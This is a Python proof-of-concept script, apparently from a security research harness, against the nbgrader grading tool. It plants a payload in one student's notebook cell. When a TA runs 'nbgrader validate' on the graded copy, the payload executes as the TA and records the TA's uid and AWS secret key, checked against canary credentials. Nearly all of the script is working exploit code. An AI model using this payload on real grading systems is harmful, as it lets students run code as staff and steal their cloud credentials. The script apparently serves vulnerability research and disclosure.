"""a11: a07 on the graded copy the TA is told to read (autograded/<student>/<assignment>/<assignment>.ipynb, made
inert for the browser by InertForTheBrowser): its code cells are still the student's, and `nbgrader validate` (or the
Validate button on it in JupyterLab) runs them as the TA."""
import os, subprocess
from harness import *
PROOF = "/tmp/attack38-root-a11-proof.txt"
PAYLOAD = r'''
import os, json
open(PROOF, "a").write(json.dumps({"uid": os.getuid(), "AWS": os.environ.get("AWS_SECRET_ACCESS_KEY")}) + "\n")
'''.replace("PROOF", repr(PROOF))
if __name__ == "__main__":
    if os.path.exists(PROOF): os.unlink(PROOF)
    d = make_course("a11")
    put(d, "aaron", solution_nb())
    nb = solution_nb()
    for c in nb.cells:
        if c.get("metadata",{}).get("nbgrader",{}).get("grade_id") == "training_memory":
            c.source = c.source + "\n" + PAYLOAD
    put(d, "mallory", nb)
    put(d, "zoe", solution_nb())
    grade(d); scores(d)
    print("proof after make grade:", open(PROOF).read() if os.path.exists(PROOF) else "none")
    env = dict(os.environ, DATABASE_URL="postgresql://ta:secret@localhost/x", AWS_SECRET_ACCESS_KEY="AKIASECRETCANARY123")
    r = subprocess.run([f"{CLONE}/.venv/bin/nbgrader", "validate", "autograded/mallory/ps1_memory/ps1_memory.ipynb"],
                       cwd=d, env=env, capture_output=True, text=True, timeout=300)
    print("nbgrader validate (graded copy) rc", r.returncode, r.stdout.strip()[-200:])
    print("proof:", open(PROOF).read().strip() if os.path.exists(PROOF) else "none")
    if os.path.exists(PROOF): os.unlink(PROOF)
